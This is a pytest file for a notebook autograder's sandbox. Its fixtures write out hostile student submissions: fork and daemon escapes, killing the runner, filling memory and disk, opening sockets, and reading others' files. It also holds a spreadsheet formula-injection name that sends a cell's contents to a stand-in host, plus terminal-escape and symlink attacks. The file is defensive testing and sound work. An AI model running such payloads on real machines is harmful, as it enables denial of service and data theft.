"""`reclor-lab course grade`: every submission runs in an OS sandbox and is judged outside it.

The gamed corpus (tests/gamed_corpus.py) gets no false pass and its honest work no false fail;
submissions that attack the machine (write outside, fork, daemonise, kill their runner, sleep,
fill memory or the disk, open a socket, read another student) affect only their own row, change
nothing outside their sandbox and leave no process behind; the kit's solved notebooks score
full marks; the gradebook is written without following links."""

from __future__ import annotations

import csv
import errno
import os
import socket
import subprocess
import sys
import time
from pathlib import Path

import nbformat
import pytest

from reclor_lab.cli import main
from reclor_lab.config import REPO_ROOT
from reclor_lab.course import checks, grade, judge, plain, runner, sandbox
from reclor_lab.course.build import KERNELSPEC

from gamed_corpus import NOT_PASSED, write_class

SEED = 20261203
needs_sandbox = pytest.mark.skipif(bool(sandbox.unavailable()), reason=f"no sandbox here: {sandbox.unavailable()}")


def _small(path: Path, *cells: str) -> Path:
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(c) for c in cells])
    nb.metadata["kernelspec"] = dict(KERNELSPEC)
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, path)
    return path


ACCURACY = ("def accuracy_over_examples(batches):\n"
            "    right = sum(p == y for ps, ys in batches for p, y in zip(ps, ys))\n"
            "    return right / sum(len(ys) for _, ys in batches)")


def _attack(body: str) -> str:
    """Exercise 11, correct, after running ``body`` (which must not raise)."""
    return ("import os, sys, time, signal, socket\n\n"
            "def accuracy_over_examples(batches):\n"
            + "".join(f"    {line}\n" for line in body.splitlines())
            + "    right = sum(p == y for ps, ys in batches for p, y in zip(ps, ys))\n"
              "    return right / sum(len(ys) for _, ys in batches)")


MARK = "reclor-lab-containment-mark"


def _other_checkouts(cmd: str) -> bool:
    """A sandbox (or its runner) of another checkout of the kit grading on this machine at the same
    time: its command line names another environment and not this one. A process of this test's
    sandboxes that names no environment (a student's ``sleep``) still counts."""
    return "/.venv/" in cmd and sys.prefix not in cmd


def _sandbox_processes() -> list[str]:
    """Processes of the sandboxes' uids, or whose command line carries the tests' mark."""
    found = []
    for name in os.listdir("/proc"):
        if not name.isdigit():
            continue
        try:
            uid = os.stat(f"/proc/{name}").st_uid
            cmd = Path(f"/proc/{name}/cmdline").read_bytes().replace(b"\0", b" ").decode("utf-8", "replace")
        except OSError:
            continue
        if _other_checkouts(cmd):
            continue
        if (uid in sandbox.SANDBOX_UIDS or MARK in cmd) and not _zombie(name):
            found.append(f"{name}: {cmd[:80]}")
    return found


def _zombie(pid: str) -> bool:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0] in ("Z", "X")
    except (OSError, IndexError):
        return True


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """The corpus, plus submissions that attack the machine or break limits, graded once (2 jobs)."""
    if sandbox.unavailable():
        pytest.skip(sandbox.unavailable())
    folder = tmp_path_factory.mktemp("class")
    outside = tmp_path_factory.mktemp("outside")
    (outside / "keep.txt").write_text("untouched")
    cases = write_class(folder)
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(5)
    listener.setblocking(False)
    port = listener.getsockname()[1]
    victim = folder / "honest_solved" / "01_data_and_tokenization.ipynb"
    attacks = {
        "writes_outside": (f"for p in [{str(victim)!r}, {str(outside / 'keep.txt')!r}, '/tmp/{MARK}',\n"
                           f"          {str(REPO_ROOT / 'runs' / MARK)!r}, os.path.expanduser('~/{MARK}')]:\n"
                           "    try:\n        open(p, 'w').write('owned')\n    except OSError:\n        pass"),
        "forks": ("for _ in range(5):\n    if os.fork() == 0:\n        time.sleep(3)\n"
                  f"        open({str(outside / 'forked')!r}, 'w').write('x')\n        os._exit(0)"),
        "daemonises": ("if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
                       f"        sys.argv[0] = {MARK!r}\n        time.sleep(8)\n"
                       f"        open({str(outside / 'late')!r}, 'w').write('x')\n    os._exit(0)"),
        "kills_its_worker": "os.kill(os.getppid(), signal.SIGKILL)\ntime.sleep(2)",
        "sleeps_forever": "time.sleep(10**6)",
        "fills_memory": "hoard = []\nwhile True:\n    hoard.append(bytearray(2**26))",
        "fills_the_disk": ("for where in ('/tmp', os.getcwd(), os.environ.get('HOME', '/')):\n"
                           "    for k in range(1000):\n        try:\n"
                           "            open(f'{where}/fill{k}', 'wb').write(b'x' * 2**24)\n"
                           "        except OSError:\n            break"),
        "opens_a_socket": (f"for host in ('127.0.0.1', '1.1.1.1'):\n    try:\n"
                           f"        socket.create_connection((host, {port}), timeout=2).send(b'owned')\n"
                           "    except OSError:\n        pass"),
        "reads_another_student": (f"for p in [{str(victim)!r}, {str(folder)!r},\n"
                                  f"          {str(Path(grade.__file__).parent / 'grading' / 'exercises.py')!r}]:\n"
                                  "    try:\n        os.listdir(p) if os.path.isdir(p) else open(p).read()\n"
                                  "        batches = []  # could read it: the answer goes wrong\n"
                                  "    except OSError:\n        pass"),
    }
    for student, body in attacks.items():
        _small(folder / student / "05_results.ipynb", _attack(body))
    _small(folder / "hog" / "05_results.ipynb", "def accuracy_over_examples(batches):\n"
                                                  "    return len(bytearray(64 * 2**30))")
    (folder / "not_json").mkdir()
    (folder / "not_json" / "05_results.ipynb").write_text("this is not a notebook", encoding="utf-8")
    _small(folder / "loose__05_results.ipynb", ACCURACY)  # the file-name convention for a loose file
    _small(folder / "twice" / "05_results.ipynb", ACCURACY)
    _small(folder / "twice" / "old" / "05_results_copy.ipynb", ACCURACY)
    before = {p: p.read_bytes() for p in folder.rglob("*") if p.is_file()}
    runs_before = sorted(os.listdir(REPO_ROOT / "runs")) if (REPO_ROOT / "runs").exists() else []
    tmp_before = set(os.listdir("/tmp"))
    results = grade.grade([folder], jobs=2, seed=SEED, cpu_seconds=10, wall_seconds=15, memory_bytes=2**30,
                          progress=None)
    left = _sandbox_processes()
    time.sleep(9)  # longer than the daemon's sleep: a survivor would have written by now
    accepted = []
    try:
        while True:
            accepted.append(listener.accept())
    except BlockingIOError:
        pass
    listener.close()
    return dict(folder=folder, outside=outside, cases=cases, results={r.student: r for r in results},
                before=before, runs_before=runs_before, tmp_before=tmp_before, left=left, accepted=accepted)


@pytest.mark.slow
def test_no_false_pass_and_no_false_fail(graded):
    cases, results = graded["cases"], graded["results"]
    honest = [c for c in cases if c.student.startswith("honest")]
    assert len(honest) >= 20 and len(cases) - len(honest) >= 40
    wrong = []
    for case in cases:
        verdicts = results[case.student].verdicts
        for number, want in case.expect.items():
            v = verdicts[number]
            if (v.status == "✅") if want == NOT_PASSED else (v.status != want):
                wrong.append(f"{case.student}: exercise {number} is {v.status} ({v.reason[:160]})")
        first = min((n for n, want in case.expect.items() if want != "✅"), default=0)
        if case.reason and case.reason not in verdicts[first].reason:
            wrong.append(f"{case.student}: the reason of exercise {first} lacks {case.reason!r}: "
                         f"{verdicts[first].reason[:160]}")
    assert not wrong, "\n".join(wrong)


@pytest.mark.slow
def test_attacks_change_nothing_outside_and_leave_no_process(graded):
    folder, outside = graded["folder"], graded["outside"]
    assert graded["left"] == [], graded["left"]
    assert _sandbox_processes() == []
    assert {p: p.read_bytes() for p in folder.rglob("*") if p.is_file()} == graded["before"]
    assert sorted(p.name for p in outside.iterdir()) == ["keep.txt"]
    assert (outside / "keep.txt").read_text() == "untouched"
    runs_after = sorted(os.listdir(REPO_ROOT / "runs")) if (REPO_ROOT / "runs").exists() else []
    assert runs_after == graded["runs_before"]
    assert not any(MARK in name for name in set(os.listdir("/tmp")) - graded["tmp_before"])
    assert not Path(os.path.expanduser(f"~/{MARK}")).exists()
    assert graded["accepted"] == []  # no connection reached the test's socket


@pytest.mark.slow
def test_each_attack_costs_only_its_own_row(graded):
    results = graded["results"]
    for student in ("writes_outside", "forks", "daemonises", "fills_the_disk", "opens_a_socket",
                    "reads_another_student"):
        assert results[student].verdicts[11].status == "✅", (student, results[student].verdicts[11])
    assert results["kills_its_worker"].verdicts[11].status in ("error", "❌"), results["kills_its_worker"].verdicts[11]
    sleeper = results["sleeps_forever"]
    assert sleeper.verdicts[11].status == "limit" and "wall-clock time (15 s)" in sleeper.problems[0]
    assert results["fills_memory"].verdicts[11].status in ("❌", "limit")
    hog = results["hog"].verdicts[11]
    assert hog.status == "❌" and "MemoryError" in hog.reason, hog
    assert results["honest_solved"].verdicts[1].status == "✅"  # the victim of the attacks


@pytest.mark.slow
def test_broken_files_two_copies_and_loose_files(graded):
    results = graded["results"]
    assert results["not_json"].problems == ["05_results.ipynb: error: not a notebook (JSONDecodeError)"]
    assert results["not_json"].verdicts[11].status == "missing"
    twice = results["twice"]
    assert twice.verdicts[11].status == "error" and len(twice.problems) == 1
    assert "05_results.ipynb and " in twice.problems[0] and "05_results_copy.ipynb" in twice.problems[0]
    assert results["loose"].verdicts[11].status == "✅"  # loose__05_results.ipynb: student "loose"
    assert results["loose"].verdicts[1].status == "missing"


@pytest.mark.slow
def test_verdicts_carry_the_code_and_the_hidden_case(graded):
    results = graded["results"]
    cached = results["cached_count_answers"].verdicts[6]
    assert cached.hidden.startswith("hidden shapes") and "ANSWERS" in cached.code
    assert "def count_lora_params" in cached.code and "expected" not in cached.reason
    assert results["honest_solved"].verdicts[1].hidden == ""


@pytest.mark.slow
def test_gradebook_details_and_feedback(graded, tmp_path):
    results = graded["results"]
    rows = [results["honest_solved"], results["calls_reference"], results["sleeps_forever"]]
    points = grade.parse_points("1=2")
    written = grade.write_gradebook(rows, tmp_path / "grades.csv", points)
    book = list(csv.DictReader((tmp_path / "grades.csv").open(encoding="utf-8")))
    numbers = sorted(checks.EXERCISES)
    assert list(book[0]) == ["student", *[f"q{n}" for n in numbers], "total", "possible", "percent", "status",
                             "seconds"]
    possible = len(numbers) + 1
    assert book[0]["student"] == "POINTS" and book[0]["q1"] == "2" and book[0]["possible"] == f"{possible:g}"
    solved = book[1]
    assert (solved["q1"], solved["q2"], solved["q3"], solved["q4"]) == ("2", "1", "1", "0")
    assert solved["total"] == "4" and solved["percent"] == f"{100 * 4 / possible:.1f}" and solved["status"] == "graded"
    assert book[2]["q1"] == "0"
    assert book[3]["status"].startswith("graded: 05_results.ipynb: limit: wall-clock time")
    details = list(csv.DictReader((tmp_path / "grades_details.csv").open(encoding="utf-8")))
    assert len(details) == 3 * len(numbers)
    row = next(d for d in details if d["student"] == "calls_reference" and d["exercise"] == "1")
    assert row["status"] == "❌" and "not available while grading exercise 1" in row["reason"]
    text = (tmp_path / "grades_feedback" / "calls_reference.txt").read_text(encoding="utf-8")
    assert "❌ Exercise 1 (format a record): 0 point(s)." in text and "not available while grading" in text
    assert len(written) == 2 + 3


@pytest.mark.slow
@needs_sandbox
def test_the_kits_solved_notebooks_score_full_marks_from_a_relative_path(tmp_path, monkeypatch):
    for nb in sorted((REPO_ROOT / "notebooks").glob("0*.ipynb")):
        (tmp_path / "class" / "kit").mkdir(parents=True, exist_ok=True)
        (tmp_path / "class" / "kit" / nb.name).write_bytes(nb.read_bytes())
    monkeypatch.chdir(tmp_path)
    (result,) = grade.grade(["class"], jobs=1, seed=SEED, progress=None)
    failed = {n: v.reason for n, v in result.verdicts.items() if not v.passed}
    assert not failed and len(result.verdicts) == len(checks.EXERCISES), failed


@needs_sandbox
def test_the_grading_package_is_not_visible_inside(tmp_path):
    """From inside a sandbox: the grading package's folder is empty, the class and home are not there,
    the out-of-memory killer takes its processes first, and the honest-solution generator reads empty."""
    job = tmp_path / "job"
    job.mkdir()
    probe = ("import os, sys\n"
             f"hidden = {str(sandbox.HIDDEN)!r}\n"
             "print(os.listdir(hidden), os.path.exists(hidden + '/exercises.py'))\n"
             f"print(os.path.exists({str(tmp_path)!r}), os.path.exists('/root/.bashrc'), os.getuid() != 0)\n"
             "try:\n    open('/usr/x', 'w')\nexcept OSError as e:\n    print(type(e).__name__)\n"
             "print(open('/proc/self/oom_score_adj').read().strip())\n"
             f"try:\n    print(repr(open({str(sandbox.HIDDEN_FILES[0])!r}).read()))\n"
             "except OSError as e:\n    print(type(e).__name__)\n")
    cmd = sandbox.command(job, job, [sys.executable, "-I", "-c", probe], 0, sandbox.Limits())
    out = subprocess.run(cmd, capture_output=True, text=True, timeout=120)
    lines = out.stdout.splitlines()
    assert lines[:4] == ["[] False", "False False True", "OSError", "1000"], out  # 1000: killed first
    assert lines[4:] in (["''"], ["PermissionError"]), out  # the generator: empty, or not readable at all


def test_no_sandbox_means_one_line_and_nothing_graded(tmp_path, monkeypatch, capsys):
    sub = _small(tmp_path / "ana" / "05_results.ipynb", ACCURACY)
    monkeypatch.setattr(sandbox, "_UNAVAILABLE", None)
    monkeypatch.setenv("PATH", str(tmp_path))  # no bwrap on it
    assert main(["course", "grade", str(sub), "--csv", str(tmp_path / "g.csv")]) == 1
    err = capsys.readouterr().err.strip()
    assert err.startswith("reclor-lab: error: cannot grade: `bwrap` is not installed: install bubblewrap")
    assert "\n" not in err and not (tmp_path / "g.csv").exists()
    monkeypatch.setattr(sandbox, "_UNAVAILABLE", None)


def test_exercise_code_is_the_final_def_with_its_helpers_and_magics_go_line_by_line(tmp_path):
    path = _small(tmp_path / "01_x.ipynb",
                  "import torch\nfrom collections import Counter\nN = 4\nUNUSED = open",
                  "def helper(labels):\n    return Counter(labels)",
                  "def class_weights_by_hand(labels):\n    raise NotImplementedError",
                  "class_weights_by_hand = checks.check_class_weights(class_weights_by_hand)",
                  "%%time\ndef class_weights_by_hand(labels):\n    c = helper(labels)\n    %time x = 1\n"
                  "    return [len(labels) / (N * c[k]) if c[k] else 1.0 for k in range(N)]",
                  "format_record = lambda record: str(record)\n!ls",
                  "from reclor_lab.course.checks import *\n"
                  "def last_token_index(ids, pad):\n    return format_record(ids) + NUM_LABELS")
    nb = judge.read_notebook(path)
    code = judge.exercise_code(nb, "class_weights_by_hand")
    assert code.source.splitlines()[0] == "from collections import Counter" and not nb.unparsable
    assert "N = 4" in code.source and "def helper" in code.source and "NotImplementedError" not in code.source
    assert "torch" not in code.source and "open" not in code.source  # not needed, not taken
    assert "\nformat_record = lambda record" in judge.exercise_code(nb, "format_record").source
    uses = judge.exercise_code(nb, "last_token_index", stand_ins={"format_record"})
    assert "from reclor_lab.course.checks import *" in uses.source and uses.uses_exercises == ["format_record"]
    assert judge.notebook_of(path, nb) == "01"


def test_plain_data_round_trip_and_what_does_not_cross():
    import numpy as np
    import torch

    class Sneaky(str):
        __eq__ = lambda self, other: True  # noqa: E731

    value = [(1, 2.5, float("nan")), {"a": Sneaky("x"), 3: [True, None]}, torch.arange(3), np.int64(4), 2**70]
    got = plain.decode(*plain.encode(value))
    assert got[0][:2] == (1, 2.5) and got[0][2] != got[0][2]
    assert type(got[1]["a"]) is str and got[1]["a"] != "y" and got[1][3] == [True, None]
    assert torch.equal(got[2], torch.arange(3)) and type(got[3]) is np.int64 and got[4] == 2**70
    odd = plain.decode(*plain.encode([object(), lambda: 1]))
    assert type(odd[0]).__name__ == "object" and type(odd[1]).__name__ == "function"
    with pytest.raises(plain.PlainDataError):
        plain.decode(b"", '{"$nope": 1}')
    with pytest.raises(plain.PlainDataError):
        plain.decode(b"not safetensors", "[]")


def test_a_giveaway_raises_through_every_alias():
    """In a child process (blocking changes the functions for good): the module attribute, an
    alias taken before and a default argument all raise; other functions still work."""
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            from reclor_lab.data import class_weights as alias

            def keeps(labels, f=alias):
                return f(labels)

            runner.block(["reclor_lab.data.class_weights", "reclor_lab.config.REFERENCE_TEMPLATE"], 2)
            import reclor_lab.config
            import reclor_lab.data

            seen = []
            template = lambda: reclor_lab.config.REFERENCE_TEMPLATE  # noqa: E731
            for call in (lambda: reclor_lab.data.class_weights([0]), lambda: alias([0]), lambda: keeps([0]),
                         lambda: template().format(), lambda: f"{template()}"):
                try:
                    call()
                    seen.append("ran")
                except RuntimeError as e:
                    seen.append("blocked" if "not available while grading exercise 2" in str(e) else str(e))
            seen.append(str(reclor_lab.data.format_example({"context": "c", "question": "q",
                                                            "answers": list("abcd")}, "{context}")))
            os.write(w, ",".join(seen).encode())
        finally:
            os._exit(0)
    os.close(w)
    os.waitpid(pid, 0)
    with os.fdopen(r) as f:
        assert f.read() == "blocked,blocked,blocked,blocked,blocked,c"


def test_every_exercise_has_a_spec_whose_giveaways_exist_and_whose_reference_passes():
    from reclor_lab.course.grading.exercises import SPECS, Context
    from reclor_lab.course.grading.replay import prepare

    ctx = Context()
    prepared = prepare(ctx, SEED)  # raises if a reference fails its own check
    assert sorted(prepared) == sorted(checks.EXERCISES)
    for number, (_, _, name) in checks.EXERCISES.items():
        spec = SPECS[name]
        unknown = [q for q in spec.giveaways if runner._resolve(q)[0] is None]
        assert not unknown, f"exercise {number}: giveaways that do not exist: {unknown}"
        for what, want in prepared[number].hidden:
            assert spec.same(want, want), (name, what)
    again = prepare(Context(), SEED)
    assert [p.cases[1:] != [] for p in again.values()] == [p.cases[1:] != [] for p in prepared.values()]
    assert repr(prepare(ctx, SEED + 1)[6].hidden) != repr(prepared[6].hidden)  # the seed draws them


def test_students_are_folders_or_named_files(tmp_path):
    for path in ("class/ana/01_data_and_tokenization.ipynb", "class/ana/w2/03_lora.ipynb",
                 "class/ben__05_results.ipynb", "class/cleo.ipynb", "class/.hidden/01_x.ipynb"):
        _small(tmp_path / path, "x = 1")
    found = grade.find_students([tmp_path / "class"])
    assert {k: [p.name for p in v] for k, v in found.items()} == {
        "ana": ["01_data_and_tokenization.ipynb", "03_lora.ipynb"], "ben": ["ben__05_results.ipynb"],
        "cleo": ["cleo.ipynb"]}
    _small(tmp_path / "dan" / "01_data_and_tokenization.ipynb", "x = 1")
    _small(tmp_path / "dan" / "02_quantization.ipynb", "x = 1")
    assert list(grade.find_students([tmp_path / "dan"])) == ["dan"]  # one student's folder on its own


def test_a_link_in_a_class_is_never_followed_and_is_an_error_in_its_own_row(tmp_path):
    """A student who hands in a link to the kit's solved notebook (or to anybody's files: the grader
    reads as the instructor) gets an error in that row, never the target's code; a linked folder
    too; the honest student beside them is read as usual."""
    solved = REPO_ROOT / "notebooks" / "01_data_and_tokenization.ipynb"
    (tmp_path / "class" / "eve").mkdir(parents=True)
    (tmp_path / "class" / "eve" / "01_data_and_tokenization.ipynb").symlink_to(solved)
    (tmp_path / "class" / "fay").mkdir()
    (tmp_path / "class" / "fay" / "work").symlink_to(REPO_ROOT / "notebooks", target_is_directory=True)
    (tmp_path / "class" / "gus").symlink_to(REPO_ROOT / "notebooks", target_is_directory=True)
    (tmp_path / "class" / "hal__01_data_and_tokenization.ipynb").symlink_to(solved)
    _small(tmp_path / "class" / "ivy" / "05_results.ipynb", ACCURACY)
    found = grade.find_students([tmp_path / "class"])
    assert sorted(found) == ["eve", "fay", "gus", "hal", "ivy"]
    for student in ("eve", "fay", "gus", "hal"):
        sub = grade.read_submission(student, found[student])
        assert not sub.code, student  # nothing of the target reaches the sandbox
        (nb,) = sub.notebooks
        assert nb.failed and nb.problem == f"error: {judge.LINK}", (student, nb.problem)
    assert grade.read_submission("ivy", found["ivy"]).code  # read as usual


def test_a_notebook_built_to_crash_the_reader_costs_only_its_own_row(tmp_path):
    """Deep JSON, a cell nested past Python's parser, a file larger than the reader takes: each is
    that notebook's own error or unparsable cell (before, the first two ended the whole class's
    grading with a RecursionError)."""
    deep = tmp_path / "deep" / "05_results.ipynb"
    deep.parent.mkdir()
    deep.write_text('{"cells": ' + "[" * 100_000 + "]" * 100_000 + "}")
    nested = _small(tmp_path / "nested" / "05_results.ipynb",
                    "def accuracy_over_examples(batches):\n    return " + "+".join(["1"] * 100_000))
    huge = tmp_path / "huge" / "05_results.ipynb"
    huge.parent.mkdir()
    huge.write_bytes(b'{"cells": [], "x": "' + b"a" * (judge.MAX_NOTEBOOK_BYTES + 1) + b'"}')
    (nb,) = grade.read_submission("deep", [deep]).notebooks
    assert nb.problem == "error: not a notebook (RecursionError)"
    (nb,) = grade.read_submission("huge", [huge]).notebooks
    assert nb.problem.startswith("error: larger than 32 MiB")
    sub = grade.read_submission("nested", [nested])
    assert not sub.code and "nested too deep to parse" in sub.notebooks[0].problem


def test_two_files_for_one_notebook_are_one_line_naming_both(tmp_path):
    a = _small(tmp_path / "eve" / "05_results.ipynb", ACCURACY)
    b = _small(tmp_path / "eve" / "backup" / "05_results.ipynb", ACCURACY)
    sub = grade.read_submission("eve", [a, b])
    (nb,) = sub.notebooks
    assert nb.failed and "\n" not in nb.problem and str(a) in nb.problem and str(b) in nb.problem
    assert nb.verdicts[11].status == "error" and not sub.code


def test_bad_paths_and_options_get_one_clear_line(tmp_path, capsys):
    assert main(["course", "grade", str(tmp_path / "nope.ipynb")]) == 1
    assert capsys.readouterr().err.strip() == f"reclor-lab: error: no such file or folder: {tmp_path / 'nope.ipynb'}"
    (tmp_path / "empty").mkdir()
    assert main(["course", "grade", str(tmp_path / "empty")]) == 1
    assert "no .ipynb notebooks in" in capsys.readouterr().err
    existing = tmp_path / "grades.csv"
    existing.write_text("keep me")
    sub = _small(tmp_path / "x.ipynb", "print(1)")
    assert main(["course", "grade", str(sub), "--csv", str(existing)]) == 1
    assert "exists; choose another --csv file or pass --overwrite" in capsys.readouterr().err
    assert existing.read_text() == "keep me"
    assert main(["course", "grade", str(sub), "--points", "99=2"]) == 1
    err = capsys.readouterr().err.strip()
    assert err.startswith("reclor-lab: error: --points: '99=2' is not EXERCISE=POINTS") and "\n" not in err
    for flag, value in (("--memory-limit", "nan"), ("--memory-limit", "-1"), ("--jobs", "0"), ("--cpu-limit", "x")):
        with pytest.raises(SystemExit):
            main(["course", "grade", str(sub), flag, value])
        assert f"argument {flag}: expected" in capsys.readouterr().err
    with pytest.raises(grade.GradeError, match="memory_bytes must be a positive number"):
        grade.grade([sub], memory_bytes=-5, progress=None)


def _result(student: str = "ana") -> grade.StudentResult:
    nb = grade.NotebookResult("05_results.ipynb", "05", {11: grade.Verdict(11, "✅", "ok")})
    return grade.StudentResult(student, [nb])


def test_a_name_a_spreadsheet_would_run_is_written_as_text(tmp_path):
    """A student who names their file ``=HYPERLINK(…)__05_results.ipynb`` (or ``+``, ``-``, ``@``)
    would run a formula in the instructor's spreadsheet: the gradebook writes it as text."""
    evil = ['=HYPERLINK("http://x.example/?"&A1,"x")', "+1+cmd", "-2+3", "@SUM(A1)"]
    grade.write_gradebook([_result(name) for name in evil] + [_result("ana")], tmp_path / "grades.csv")
    rows = list(csv.reader((tmp_path / "grades.csv").open(encoding="utf-8")))
    names = [row[0] for row in rows[2:]]
    assert names == ["'" + name for name in evil] + ["ana"]
    assert rows[2][1:] == rows[-1][1:]  # the points themselves are untouched
    assert grade.spreadsheet_safe("-1.5") == "-1.5" and grade.spreadsheet_safe(-3) == -3
    assert grade.spreadsheet_safe("--") == "--" and grade.spreadsheet_safe("-") == "-"  # otter's, the table's


def test_a_name_cannot_redraw_the_terminal_table():
    """A folder named with a terminal's escape sequences (erase the line, return, write 13/13)
    is printed as its escapes: the instructor's table shows what the gradebook holds."""
    forged = "eve\x1b[2K\r" + "ana  " + "  ✅" * 13 + "  13/13  graded"
    lines = grade.table([_result(forged), _result("ana")]).splitlines()
    assert not any("\x1b" in line or "\r" in line for line in lines)
    assert lines[1].startswith("eve\\x1b[2K\\rana") and f" 1/{len(checks.EXERCISES)}" in lines[1]


def test_the_gradebook_never_follows_a_link(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("mine")
    (tmp_path / "grades.csv.tmp").symlink_to(secret)
    grade.write_gradebook([_result()], tmp_path / "grades.csv")
    assert secret.read_text() == "mine" and not (tmp_path / "grades.csv.tmp").exists()
    assert (tmp_path / "grades.csv").read_text(encoding="utf-8").startswith("student,q1")
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    linked = tmp_path / "b" / "grades_feedback"
    linked.parent.mkdir()
    linked.symlink_to(elsewhere)
    with pytest.raises(grade.GradeError, match="is a symbolic link"):
        grade.write_gradebook([_result()], tmp_path / "b" / "grades.csv")
    assert list(elsewhere.iterdir()) == []


def test_a_full_disk_names_the_path_and_leaves_no_temporary_file(tmp_path, monkeypatch):
    (tmp_path / "grades.csv").write_text("the old gradebook")
    real = os.write

    def full(fd, data):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(os, "write", full)
    with pytest.raises(grade.GradeError, match=f"could not write {tmp_path / 'grades.csv'}: No space left"):
        grade.write_gradebook([_result()], tmp_path / "grades.csv")
    monkeypatch.setattr(os, "write", real)
    assert (tmp_path / "grades.csv").read_text() == "the old gradebook"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["grades.csv"]


def test_without_the_sandbox_every_row_says_so():
    r = _result()
    r.sandboxed = False
    assert grade.status_of(r).startswith(grade.NO_SANDBOX)
    assert grade.NO_SANDBOX in grade.table([r])
